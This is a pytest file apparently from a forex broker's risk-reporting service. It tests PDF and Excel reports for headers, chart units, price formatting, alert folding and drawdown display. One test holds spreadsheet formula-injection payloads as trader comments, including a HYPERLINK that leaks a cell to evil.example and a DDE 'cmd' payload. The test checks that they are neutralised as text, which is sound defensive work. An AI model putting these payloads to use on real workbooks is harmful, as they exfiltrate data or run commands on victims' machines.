"""The rendered files: PDF pages (looked at as PNGs in the artifacts) and Excel workbooks."""

from __future__ import annotations

import dataclasses
import math
import re
import zipfile
from datetime import UTC, datetime, timedelta
from io import BytesIO
from pathlib import Path
from typing import Any

import pypdfium2 as pdfium
import pytest

from actors.mt5_account import AccountActor
from actors.report_worker import detail_row
from models.alerts import Alert, AlertState, Severity
from models.history import HistoryPoint
from models.reports import ReportFormat, ReportType
from veles.bench.reports import synthetic_inputs
from veles.mt5.simulator import SimulatedBroker
from veles.reports.builders import build
from veles.reports.charts import draw_chart, render_chart, value_unit
from veles.reports.document import Kind, Price
from veles.reports.formatting import as_text, price_format, price_text
from veles.reports.gather import Inputs
from veles.reports.render import render
from veles.reports.request import Period, ReportRequest

NOW = datetime(2026, 11, 22, 6, 0, tzinfo=UTC)
PERIOD = Period(NOW - timedelta(days=1), NOW, "Asia/Tokyo")


def pdf_pages(content: bytes, artifacts: Path, name: str) -> list[str]:
    """Each page's text; every page is also saved as a PNG for a person to look at."""
    document = pdfium.PdfDocument(content)
    texts = []
    try:
        for index in range(len(document)):
            page = document[index]
            page.render(scale=1.4).to_pil().save(artifacts / f"{name}-page{index + 1}.png")
            texts.append(page.get_textpage().get_text_range())
    finally:
        document.close()
    return texts


@pytest.mark.parametrize("report_type", [ReportType.DAILY_RISK, ReportType.EXPOSURE, ReportType.ALERTS_LOG])
def test_pdf_states_its_range_and_zone_on_every_page_with_numbers(
    report_type: ReportType, book_200: dict[str, Any], artifacts: Path
) -> None:
    doc = build(synthetic_inputs(book_200, report_type, PERIOD, alerts=120), top=25, generated_at=NOW)
    content = render(doc, ReportFormat.PDF).content
    pages = pdf_pages(content, artifacts, f"report-{report_type.value}")
    assert content.startswith(b"%PDF")
    assert b"DejaVuSans" in content  # the font with every glyph used is embedded
    for number, text in enumerate(pages, start=1):
        assert "2026-11-21 15:00 to 2026-11-22 15:00 Asia/Tokyo" in text  # header, in the report's zone
        assert f"Page {number} of {len(pages)}" in text
    if report_type is not ReportType.EXPOSURE:
        whole = "\n".join(pages)
        assert "Ünïcødé ✓ €" in whole  # glyphs beyond Latin-1 came through as text
        assert len(pages) > 1
        # the alerts table carries on over pages, its header repeated on each
        assert sum("Severity" in text for text in pages) >= 2


def test_daily_summary_leaves_the_full_account_list_to_excel(
    book_200: dict[str, Any], artifacts: Path
) -> None:
    doc = build(synthetic_inputs(book_200, ReportType.DAILY_RISK, PERIOD), top=25, generated_at=NOW)
    text = "\n".join(pdf_pages(render(doc, ReportFormat.PDF).content, artifacts, "daily-summary"))
    assert "Top 25 risky accounts" in text
    assert "200 more row(s) in the Excel version" in text


def test_excel_has_typed_cells_formats_frozen_header_and_a_native_chart(
    book_200: dict[str, Any], artifacts: Path
) -> None:
    doc = build(synthetic_inputs(book_200, ReportType.DAILY_RISK, PERIOD), top=25, generated_at=NOW)
    content = render(doc, ReportFormat.XLSX).content
    (artifacts / "daily-summary.xlsx").write_bytes(content)
    with zipfile.ZipFile(BytesIO(content)) as workbook:
        names = workbook.namelist()
        styles = workbook.read("xl/styles.xml").decode()
        sheets = {n: workbook.read(n).decode() for n in names if n.startswith("xl/worksheets/sheet")}
        strings = workbook.read("xl/sharedStrings.xml").decode()
    assert any(n.startswith("xl/charts/chart") for n in names)
    assert "#,##0.00;[Red]-#,##0.00" in styles
    assert "Asia/Tokyo" in strings
    all_accounts = max(sheets.values(), key=len)  # the sheet with every account
    assert 'state="frozen"' in all_accounts
    assert len(re.findall(r"<row ", all_accounts)) == 200 + 3  # title rows + header row + accounts
    assert re.search(r'<c r="E5"[^>]*><v>[-0-9.]+</v></c>', all_accounts)  # balance is a number


def test_account_statement_lists_positions_and_charts_equity(artifacts: Path) -> None:
    broker = SimulatedBroker(accounts=8, seed=3, warmup=600.0)
    symbols = {spec.name: spec for spec in broker.symbols()}
    board = {q.symbol: q for q in broker.poll().quotes}
    hosts = [AccountActor(s, symbols, board) for s in broker.accounts()]
    host = max(hosts, key=lambda h: len(h.state.positions()))  # the account holding most positions
    detail = host.detail()
    assert detail.positions
    login = detail.figures.login
    history = [
        HistoryPoint(
            PERIOD.start + timedelta(minutes=m), 10_000 + 40 * math.sin(m / 90), 10_000.0, 500.0, None, 0.0
        )
        for m in range(0, 24 * 60, 5)
    ]
    request = ReportRequest(ReportType.ACCOUNT_STATEMENT, ReportFormat.PDF, PERIOD, login)
    inputs = Inputs("Bench Broker Ltd", request, None, [], history, detail_row(detail))
    content = render(build(inputs, top=25, generated_at=NOW), ReportFormat.PDF).content
    text = "\n".join(pdf_pages(content, artifacts, "account-statement"))
    assert f"Account statement {login}" in text
    for position in detail.positions:
        assert str(position.ticket) in text
        # the open price to its symbol's digits, as the terminal shows it (EURUSD 5, XAUUSD 2)
        assert f"{position.price_open:,.{symbols[position.symbol].digits}f}" in text
    assert "Open positions" in text
    assert "No alerts in this period." in text


def test_exposure_chart_axis_reads_in_plain_units_without_an_offset(
    book_200: dict[str, Any], artifacts: Path
) -> None:
    """Book-sized USD amounts: "USD m" on the axis and short tick numbers, never "1e7" above it."""
    doc = build(synthetic_inputs(book_200, ReportType.EXPOSURE, PERIOD), top=25, generated_at=NOW)
    chart = doc.charts[0]
    largest = max(abs(v) for values in chart.series.values() for v in values)
    assert largest >= 1e6  # a book of 200 accounts: millions, where matplotlib printed an offset
    figure = draw_chart(chart, PERIOD.zone)
    figure.canvas.draw()
    axes = figure.axes[0]
    assert axes.yaxis.get_offset_text().get_text() == ""
    assert axes.get_ylabel() == "USD m"
    labels = [t.get_text() for t in axes.get_yticklabels() if t.get_text()]
    assert labels
    assert all(re.fullmatch(r"[-\u2212]?[\d,]+(\.\d{1,2})?", label) for label in labels), labels
    assert all(abs(float(label.replace(",", "").replace("\u2212", "-"))) < 1_000 for label in labels)
    (artifacts / "exposure-chart.png").write_bytes(render_chart(chart, PERIOD.zone))


@pytest.mark.parametrize(
    ("values", "divisor", "label"),
    [([12.0, -800.0], 1.0, "USD"), ([2_500.0], 1e3, "USD k"), ([-12_500_000.0], 1e6, "USD m"),
     ([3.2e9], 1e9, "USD bn"), ([], 1.0, "USD")],
)
def test_value_unit_picks_the_largest_unit_that_fits(values: list[float], divisor: float, label: str) -> None:
    assert value_unit({"s": values}, "USD") == (divisor, label)


def test_prices_are_written_to_their_symbols_digits() -> None:
    """As the MT5 terminal writes them; a symbol whose digits are unknown keeps up to 5 places."""
    assert price_text(Price(1.0839, 5)) == "1.08390"
    assert price_text(Price(155.2, 3)) == "155.200"
    assert price_text(Price(2345.6, 2)) == "2,345.60"
    assert price_text(Price(39740.0, 0)) == "39,740"
    assert price_text(Price(1.08391, None)) == "1.08391"
    assert price_text(Price(150.1, None)) == "150.10"
    assert as_text(0.1, Kind.LOTS, "UTC") == "0.10"  # lots as the terminal writes them
    assert as_text(0.125, Kind.LOTS, "UTC") == "0.125"
    assert as_text(1500.0, Kind.LOTS, "UTC") == "1,500.00"
    assert price_format(5) == "#,##0.00000"
    assert price_format(0) == "#,##0"


@pytest.mark.parametrize("comment", ['=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
                                     "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
                                     "https://evil.example/"])
def test_trader_set_deal_comments_are_text_in_excel(comment: str) -> None:
    """A deal comment is set by the trader (their terminal or EA) and reaches the statement: it is
    written as a string cell holding exactly the comment, never as a formula or a link, and one
    that starts like a formula carries Excel's quote prefix so editing it cannot make it one."""
    from openpyxl import load_workbook

    from models.deals import DealRecord

    broker = SimulatedBroker(accounts=1, seed=3)
    symbols = {spec.name: spec for spec in broker.symbols()}
    board = {q.symbol: q for q in broker.poll().quotes}
    detail = AccountActor(broker.accounts()[0], symbols, board).detail()
    login = detail.figures.login
    deal = DealRecord(tenant_id=1, login=login, ticket=99, executed_at=NOW - timedelta(hours=1), kind="buy",
                      entry="in", symbol="EURUSD", volume=0.1, price=1.1, comment=comment)
    request = ReportRequest(ReportType.ACCOUNT_STATEMENT, ReportFormat.XLSX, PERIOD, login)
    inputs = Inputs("Broker", request, None, [], [], detail_row(detail), [deal])
    content = render(build(inputs, top=25, generated_at=NOW), ReportFormat.XLSX).content
    with zipfile.ZipFile(BytesIO(content)) as workbook:
        sheets = [workbook.read(n).decode() for n in workbook.namelist() if "worksheets/sheet" in n]
        assert not any("<f>" in sheet for sheet in sheets)
        assert not any("hyperlink" in n for n in workbook.namelist())
    book = load_workbook(BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value == comment]
    assert cells, "the comment is not in the workbook as written"
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.hyperlink is None
        assert cell.quotePrefix is (comment[0] in "=+-@\t\r")


def test_repeats_of_one_alert_are_one_line_with_a_count(book_200: dict[str, Any]) -> None:
    """Issue 15: one account in margin call 24 times in 5 minutes took 4 of the daily PDF's 7 pages."""
    inputs = synthetic_inputs(book_200, ReportType.DAILY_RISK, PERIOD, alerts=3)
    start = PERIOD.start
    flapping = [
        Alert(tenant_id=0, severity=Severity.WARNING, subject="100042", value=90.0 - i,
              engine_rule="margin_call", state=AlertState.RESOLVED,
              created_at=start + timedelta(seconds=12 * i),
              message=f"Account 100042 reached margin call at a margin level of {90.0 - i:.2f}%.")
        for i in range(24)
    ]
    folded = Alert(tenant_id=0, severity=Severity.CRITICAL, subject="100043", value=40.0,
                   engine_rule="stop_out", state=AlertState.OPEN, created_at=start, repeats=7,
                   message="Account 100043 reached stop out at a margin level of 40.00%. "
                           "Raised 7 times since 06:00:00 UTC.")
    inputs = dataclasses.replace(inputs, alerts=sorted([*inputs.alerts, *flapping, folded],
                                                       key=lambda a: a.created_at))
    doc = build(inputs, top=25, generated_at=NOW)
    (table,) = [t for t in doc.tables if t.title == "Alerts"]
    lines = {row[2]: row for row in table.rows}
    assert len(table.rows) == 3 + 2
    assert lines["100042"][0] == start  # the first raise's time, the latest value and message
    assert lines["100042"][3] == 67.0
    assert lines["100042"][5] == ("Account 100042 reached margin call at a margin level of 67.00%. "
                                  "Seen 24 times in this period.")
    assert lines["100043"][5].endswith("Raised 7 times since 06:00:00 UTC.")  # the engine's count stands


def test_drawdown_is_printed_as_the_percent_of_peak_equity_lost(
    book_200: dict[str, Any], artifacts: Path
) -> None:
    """Issue 15: the engine's drawdown is a fraction (0.4321 = 43.21 % of peak equity lost); the
    PDF and the workbook showed it as "0.43 %", 100 times too small."""
    from openpyxl import load_workbook

    accounts = [dict(row) for row in book_200["accounts"]]
    riskiest = min(accounts, key=lambda r: r["margin_level"] if r["margin_level"] is not None else math.inf)
    riskiest["drawdown"] = 0.4321
    book = {**book_200, "accounts": accounts}
    login = str(riskiest["login"])

    doc = build(synthetic_inputs(book, ReportType.DAILY_RISK, PERIOD), top=25, generated_at=NOW)
    text = "\n".join(pdf_pages(render(doc, ReportFormat.PDF).content, artifacts, "drawdown"))
    line = next(row for row in text.splitlines() if row.startswith(login))
    assert "43.21 %" in line, line

    workbook = load_workbook(BytesIO(render(doc, ReportFormat.XLSX).content))
    found = []
    for sheet in workbook.worksheets:
        header = next((row for row in sheet.iter_rows() if any(c.value == "Drawdown" for c in row)), None)
        if header is None:
            continue
        column = next(c.column for c in header if c.value == "Drawdown")
        for row in sheet.iter_rows(min_row=header[0].row + 1):
            if str(row[0].value) == login:
                cell = row[column - 1]
                found.append((cell.value, cell.number_format))
    assert found
    for value, number_format in found:
        assert value == pytest.approx(43.21)
        assert number_format == '0.00"%"'
